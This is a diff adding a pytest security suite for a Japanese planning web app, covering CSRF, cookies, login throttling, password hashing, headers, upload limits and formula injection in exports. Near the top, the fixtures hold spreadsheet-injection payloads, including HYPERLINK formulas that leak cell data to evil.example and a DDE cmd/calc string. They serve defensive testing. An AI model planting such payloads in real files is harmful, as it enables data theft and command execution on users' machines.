@@ -1,0 +1,417 @@
+"""HTTP hardening: CSRF on every state-changing route, cookie flags, login throttling, password hashing, security
+headers and no inline script on every page, upload size limits, and no formula injection in any CSV/XLSX export.
+
+The pages are found by walking the authorisation matrix's table (test_authorisation_matrix.ENDPOINTS), so new
+routes and new exports are checked without touching this file.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from sqlmodel import Session, select
+
+from planner.db.models import Body, Need, User
+from tests.security import test_authorisation_matrix as matrix
+from tests.security.conftest import World, build_world, login, make_app
+
+TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
+MARK = "evil.example"
+PAYLOADS = [f'=HYPERLINK("http://{MARK}/?leak="&A1,"見る")', f"+cmd|' /C calc'!A0 {MARK}", f"-1+1 {MARK}",
+            f"@SUM(1+1) {MARK}", f"\t=1+1 {MARK}", f"＝1+1 {MARK}"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def _hostile(session: Session) -> None:
+    """User-entered text that a spreadsheet would run: need notes, a body's name (official data can be edited)."""
+    needs = session.exec(select(Need).order_by(Need.id)).all()
+    for need, payload in zip(needs, PAYLOADS * 3):
+        need.notes = payload
+        session.add(need)
+    body = session.get(Body, "204820")
+    body.name = f'=HYPERLINK("http://{MARK}/","小谷村")'
+    session.add(body)
+    user = session.exec(select(User).where(User.username == "pref20")).one()
+    user.display_name = f"@{MARK} 担当"
+    session.add(user)
+
+
+@pytest.fixture(scope="module")
+def world(request, tmp_path_factory) -> World:
+    from tests.security.conftest import _module_database
+
+    app = make_app(_module_database(request, tmp_path_factory),
+                   REPORT_CACHE_DIR=str(tmp_path_factory.mktemp("report-cache")),
+                   NEEDS_UPLOAD_DIR=str(tmp_path_factory.mktemp("uploads")))
+    world = build_world(app, names={"20": f"=HYPERLINK(\"http://{MARK}/\",\"長野県計画\")", "15": f"-新潟県 {MARK}"},
+                        prepare=_hostile)
+    app.extensions["security_world"] = world
+    yield world
+    app.extensions["db_engine"].dispose()
+
+
+def crawl(app, user: str):
+    """Every GET the user may make in the world (each object the user may see), as (url, response)."""
+    client = app.test_client()
+    if matrix.USERS[user]:
+        login(client, user)
+    for endpoint in sorted(matrix.ENDPOINTS):
+        if endpoint not in app.view_functions:
+            continue
+        for method, rule, ext, target in matrix._cases(app, endpoint):
+            if method != "GET" or (target is not None and user not in target.allowed):
+                continue
+            values = dict(target.values) if target else {}
+            fmts = ("csv", "xlsx") if "fmt" in rule.arguments else (None,)
+            for fmt in fmts:
+                if fmt:
+                    values["fmt"] = fmt
+                url = matrix._url(app, endpoint, rule, values, ext)
+                yield url, client.get(url)
+
+
+# --- exports ------------------------------------------------------------------------------------------------------
+
+def _xlsx_problems(where: str, data: bytes) -> list[str]:
+    problems = []
+    workbook = load_workbook(io.BytesIO(data))
+    for ws in workbook.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                value = cell.value
+                if not isinstance(value, str):
+                    continue
+                if cell.data_type == "f" and (MARK in value or not matrix_formula(value)):
+                    problems.append(f"{where} {ws.title}!{cell.coordinate}: user text became a formula: {value!r}")
+                elif MARK in value and value.startswith(FORMULA_START) and not cell.quotePrefix:
+                    problems.append(f"{where} {ws.title}!{cell.coordinate}: text starts like a formula: {value!r}")
+    return problems
+
+
+def matrix_formula(value: str) -> bool:
+    """The formulas the reports build themselves: cell references, arithmetic, SUM/ROUND/IF."""
+    from planner.reports.safe_cells import is_own_formula
+
+    return is_own_formula(value)
+
+
+def _csv_problems(where: str, data: bytes) -> list[str]:
+    text = data.decode("utf-8-sig", errors="replace")
+    problems = []
+    for n, row in enumerate(csv.reader(io.StringIO(text)), start=1):
+        for value in row:
+            if MARK in value and value.startswith(FORMULA_START):
+                problems.append(f"{where} row {n}: cell starts like a formula: {value!r}")
+    return problems
+
+
+def _export_problems(where: str, response) -> tuple[str | None, list[str]]:
+    data = response.get_data()
+    mimetype = response.mimetype
+    if mimetype == "text/csv":
+        return "csv", _csv_problems(where, data)
+    if mimetype.endswith("spreadsheetml.sheet"):
+        return "xlsx", _xlsx_problems(where, data)
+    if mimetype == "application/zip":
+        problems = []
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            for name in archive.namelist():
+                if name.endswith(".xlsx"):
+                    problems += _xlsx_problems(f"{where}:{name}", archive.read(name))
+                elif name.endswith(".csv"):
+                    problems += _csv_problems(f"{where}:{name}", archive.read(name))
+        return "zip", problems
+    return None, []
+
+
+def test_no_export_lets_user_text_run_as_a_formula(world):
+    scanned, problems = [], []
+    for url, response in crawl(world.app, "admin"):
+        kind, found = _export_problems(url, response)
+        if kind:
+            scanned.append(url)
+            problems += found
+    assert not problems, "\n".join(problems)
+    # The exports that exist today were all looked at (the walk finds new ones by itself).
+    for pattern in (r"/needs/export\.csv", r"/needs/export\.xlsx", r"/bodies/export\.csv",
+                    r"/reports/summary\.xlsx", r"/reports/group/.+\.xlsx", r"/reports/member/.+\.xlsx",
+                    r"/reports\.zip"):
+        if any(re.search(pattern, url) for url in scanned) or not _route_exists(world.app, pattern):
+            continue
+        raise AssertionError(f"no export matching {pattern} was scanned: {scanned}")
+
+
+def _route_exists(app, pattern: str) -> bool:
+    return any(re.search(pattern.split("\\.")[0].replace(".+", ""), r.rule) for r in app.url_map.iter_rules())
+
+
+def test_exports_really_contain_the_hostile_text(world):
+    """Guard for the test above: the payloads do reach the exports (else it would pass for nothing)."""
+    client = world.app.test_client()
+    login(client, "admin")
+    if "needs.export" in world.app.view_functions:
+        text = client.get("/needs/export.csv?status=all").get_data(as_text=True)
+        assert MARK in text
+    data = client.get(f"/plans/{world.plans['20']}/reports/summary.xlsx").get_data()
+    values = [c.value for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
+    assert any(isinstance(v, str) and MARK in v for v in values)
+
+
+# --- headers and inline script ------------------------------------------------------------------------------------
+
+INLINE_SCRIPT = re.compile(r"<script(?![^>]*\ssrc=)[^>]*>", re.I)
+EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.I)
+STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.I)
+JS_URL = re.compile(r"(?:href|src|action)\s*=\s*[\"']?\s*javascript:", re.I)
+
+
+def _header_problems(where: str, response) -> list[str]:
+    h = response.headers
+    out = []
+    csp = h.get("Content-Security-Policy", "")
+    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
+    script = directives.get("script-src") or directives.get("default-src", "")
+    if not script or "'unsafe-inline'" in script or "'unsafe-eval'" in script or "*" in script.split():
+        out.append(f"{where}: CSP script-src {script!r}")
+    if "frame-ancestors 'none'" not in csp and h.get("X-Frame-Options") != "DENY":
+        out.append(f"{where}: framing not denied")
+    if h.get("X-Content-Type-Options") != "nosniff":
+        out.append(f"{where}: no X-Content-Type-Options: nosniff")
+    if h.get("Referrer-Policy") not in ("same-origin", "no-referrer", "strict-origin", "strict-origin-when-cross-origin"):
+        out.append(f"{where}: Referrer-Policy {h.get('Referrer-Policy')!r}")
+    return out
+
+
+def _inline_problems(where: str, response) -> list[str]:
+    if response.mimetype != "text/html":
+        return []
+    html = response.get_data(as_text=True)
+    return [f"{where}: {what}: {m.group(0)[:80]!r}" for what, rx in
+            (("inline script", INLINE_SCRIPT), ("event handler attribute", EVENT_HANDLER),
+             ("style attribute (blocked by style-src 'self')", STYLE_ATTRIBUTE), ("javascript: URL", JS_URL))
+            for m in [rx.search(html)] if m]
+
+
+@pytest.mark.parametrize("user", ["anonymous", "admin", "pref20", "muni202011"])
+def test_every_response_has_the_security_headers_and_no_inline_script(world, user):
+    problems, seen = [], 0
+    for url, response in crawl(world.app, user):
+        seen += 1
+        where = f"{user} GET {url} ({response.status_code})"
+        assert response.status_code < 500, where
+        problems += _header_problems(where, response) + _inline_problems(where, response)
+    assert seen > 3
+    assert not problems, "\n".join(problems)
+
+
+def test_error_responses_have_the_security_headers_too(world):
+    client = world.app.test_client()
+    checks = [("404", client.get("/no/such/page")), ("405", client.put("/login"))]
+    login(client, "muni202011")
+    checks.append(("403", client.get("/scenarios/")))
+    checks.append(("api 403", client.get(f"/api/scenarios/{world.scenarios['15']}/status")))
+    problems = []
+    for label, response in checks:
+        problems += _header_problems(label, response) + _inline_problems(label, response)
+    assert [r.status_code for _, r in checks] == [404, 405, 403, 403]
+    assert not problems, "\n".join(problems)
+
+
+def test_templates_have_no_inline_script_or_handlers():
+    problems = []
+    for path in sorted(TEMPLATES.rglob("*.html")):
+        text = path.read_text(encoding="utf-8")
+        rel = path.relative_to(TEMPLATES)
+        for what, rx in (("inline <script>", INLINE_SCRIPT), ("event handler attribute", EVENT_HANDLER),
+                         ("javascript: URL", JS_URL)):
+            for m in rx.finditer(text):
+                problems.append(f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: {what}: {m.group(0)[:60]!r}")
+        # The PDF templates are rendered by WeasyPrint, not a browser: only web pages must do without style="".
+        if rel.parts[0] != "reports":
+            for m in STYLE_ATTRIBUTE.finditer(text):
+                problems.append(f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: style attribute: {m.group(0)[:60]!r}")
+    assert not problems, "\n".join(problems)
+
+
+# --- CSRF ---------------------------------------------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def csrf_app(world):
+    app = make_app(world.app.config["DATABASE_URL"], WTF_CSRF_ENABLED=True,
+                   NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"])
+    app.extensions["security_world"] = world
+    yield app
+    app.extensions["db_engine"].dispose()
+
+
+def _token(client, path: str = "/login") -> str:
+    from tests.web.conftest import csrf_token_from
+
+    return csrf_token_from(client.get(path).get_data(as_text=True))
+
+
+def _csrf_login(client, username: str) -> None:
+    token = _token(client)
+    response = client.post("/login", data={"username": username, "password": "password-123", "csrf_token": token})
+    assert response.status_code == 302, response.status_code
+
+
+def test_login_itself_needs_the_token(csrf_app):
+    client = csrf_app.test_client()
+    response = client.post("/login", data={"username": "admin", "password": "password-123"})
+    assert response.status_code == 400
+    assert "フォームの有効期限が切れました" in response.get_data(as_text=True)
+
+
+def test_every_state_changing_route_refuses_a_request_without_a_valid_token(csrf_app, world):
+    client = csrf_app.test_client()
+    _csrf_login(client, "admin")  # may do everything: only the token stands in the way
+    before = matrix._state(world)
+    tried, problems = [], []
+    for endpoint in sorted(matrix.ENDPOINTS):
+        if endpoint not in csrf_app.view_functions:
+            continue
+        for method, rule, ext, target in matrix._cases(csrf_app, endpoint):
+            if method not in matrix.STATE_CHANGING or endpoint == "auth.login":
+                continue
+            url = matrix._url(csrf_app, endpoint, rule, target.values if target else {}, ext)
+            for label, data in (("no token", {}), ("forged token", {"csrf_token": "forged." + "x" * 40})):
+                response = client.open(url, method=method, data=data)
+                tried.append(url)
+                if response.status_code != 400:
+                    problems.append(f"{method} {url} with {label}: {response.status_code}, expected 400")
+    assert tried, "no state-changing route found"
+    assert not problems, "\n".join(problems)
+    assert matrix._state(world) == before, "a request without a valid token changed the database"
+    # and the session is still signed in: the refusals did not log anyone out or in
+    assert client.get("/home").status_code == 200
+
+
+def test_a_valid_token_is_accepted(csrf_app):
+    client = csrf_app.test_client()
+    _csrf_login(client, "muni202011")
+    token = _token(client, "/home")
+    assert client.post("/logout", data={"csrf_token": token}).status_code == 302
+    assert client.get("/home").status_code == 302  # signed out
+
+
+# --- cookies, proxies -----------------------------------------------------------------------------------------------
+
+def _session_cookie(response) -> str:
+    cookies = [v for v in response.headers.getlist("Set-Cookie") if v.startswith("session=")]
+    assert cookies, "no session cookie set"
+    return cookies[-1]
+
+
+def test_session_cookie_is_httponly_and_samesite_lax(world):
+    response = world.app.test_client().post("/login", data={"username": "admin", "password": "password-123"})
+    cookie = _session_cookie(response)
+    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
+    assert "Secure" not in cookie  # plain HTTP on loopback (development): a Secure cookie would never come back
+
+
+def test_session_cookie_is_secure_when_configured_or_served_over_https(world, monkeypatch):
+    url = world.app.config["DATABASE_URL"]
+    configured = make_app(url, SESSION_COOKIE_SECURE=True)
+    response = configured.test_client().post("/login", data={"username": "admin", "password": "password-123"})
+    assert "Secure" in _session_cookie(response)
+    assert response.headers.get("Strict-Transport-Security")
+
+    direct = make_app(url)  # TLS terminated by the WSGI server itself
+    response = direct.test_client().post("/login", base_url="https://planner.example",
+                                         data={"username": "admin", "password": "password-123"})
+    assert "Secure" in _session_cookie(response)
+
+    proxied = make_app(url, TRUSTED_PROXY=True)  # behind an HTTPS reverse proxy
+    response = proxied.test_client().post("/login", headers={"X-Forwarded-Proto": "https",
+                                                             "X-Forwarded-For": "203.0.113.9"},
+                                          data={"username": "admin", "password": "password-123"})
+    assert "Secure" in _session_cookie(response)
+    for app in (configured, direct, proxied):
+        app.extensions["db_engine"].dispose()
+
+
+# --- login throttle, password hashing ------------------------------------------------------------------------------
+
+def _fail(client, username: str, **kw):
+    return client.post("/login", data={"username": username, "password": "wrong-password"}, **kw)
+
+
+def test_login_is_throttled_per_name_and_address(world):
+    from planner.services.login_throttle import MAX_FAILURES
+
+    client = world.app.test_client()
+    here = {"REMOTE_ADDR": "198.51.100.7"}
+    for _ in range(MAX_FAILURES):
+        assert _fail(client, "muni202029", environ_base=here).status_code == 200
+    blocked = client.post("/login", data={"username": "muni202029", "password": "password-123"}, environ_base=here)
+    assert blocked.status_code == 429  # even the right password, once blocked
+    assert "しばらく" in blocked.get_data(as_text=True)
+    other = client.post("/login", data={"username": "muni202029", "password": "password-123"},
+                        environ_base={"REMOTE_ADDR": "198.51.100.8"})
+    assert other.status_code == 302  # another office is not locked out by someone else's typing
+    with Session(world.engine) as session:
+        from planner.db.models import AuditLog
+
+        actions = [a.action for a in session.exec(select(AuditLog).where(AuditLog.entity_id == "muni202029"))]
+    assert actions.count("login_failed") >= MAX_FAILURES and "login_blocked" in actions
+
+
+def test_a_forged_forwarded_for_header_does_not_reset_the_throttle(world):
+    """Behind the proxy the address comes from X-Forwarded-For; the client's own part of it must not count."""
+    from planner.services.login_throttle import MAX_FAILURES
+
+    app = make_app(world.app.config["DATABASE_URL"], TRUSTED_PROXY=True)
+    client = app.test_client()
+    proxy = {"REMOTE_ADDR": "10.0.0.2"}
+    for i in range(MAX_FAILURES + 2):
+        # The attacker invents a new address each time; the proxy appends the real one (192.0.2.50).
+        _fail(client, "pref15", environ_base=proxy, headers={"X-Forwarded-For": f"203.0.113.{i}, 192.0.2.50"})
+    response = client.post("/login", data={"username": "pref15", "password": "password-123"}, environ_base=proxy,
+                           headers={"X-Forwarded-For": "203.0.113.200, 192.0.2.50"})
+    assert response.status_code == 429
+    app.extensions["db_engine"].dispose()
+
+
+def test_passwords_are_hashed_with_argon2id_memory_hard_parameters(world):
+    with Session(world.engine) as session:
+        hashes = [u.password_hash for u in session.exec(select(User))]
+    assert hashes
+    for h in hashes:
+        m = re.match(r"\$argon2id\$v=19\$m=(\d+),t=(\d+),p=(\d+)\$", h)
+        assert m, h[:30]
+        memory_kib, time_cost, _ = map(int, m.groups())
+        assert memory_kib >= 19 * 1024 and time_cost >= 2  # OWASP's minimum for argon2id
+    assert "password-123" not in "".join(hashes)
+
+
+# --- uploads --------------------------------------------------------------------------------------------------------
+
+def test_the_default_upload_limit_is_set():
+    from planner.app import create_app
+
+    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://", "SECRET_KEY": "x"})
+    assert 0 < app.config["MAX_CONTENT_LENGTH"] <= 10 * 1024 * 1024
+
+
+@pytest.mark.parametrize("path", ["/needs/import", "/bodies/import"])
+def test_an_oversized_upload_gets_413_with_a_japanese_page(world, path):
+    app = make_app(world.app.config["DATABASE_URL"], MAX_CONTENT_LENGTH=4096,
+                   NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"])
+    if not any(r.rule == path for r in app.url_map.iter_rules()):
+        pytest.skip(f"{path} is not installed in this build")
+    client = app.test_client()
+    login(client, "admin")
+    before = matrix._state(world)
+    big = io.BytesIO(b"body_code,category\n" + b"202011,ocr\n" * 2000)
+    response = client.post(path, data={"file": (big, "needs.csv")}, content_type="multipart/form-data")
+    assert response.status_code == 413
+    html = response.get_data(as_text=True)
+    assert "ファイルが大きすぎます" in html and 'lang="ja"' in html
+    assert matrix._state(world) == before
+    app.extensions["db_engine"].dispose()
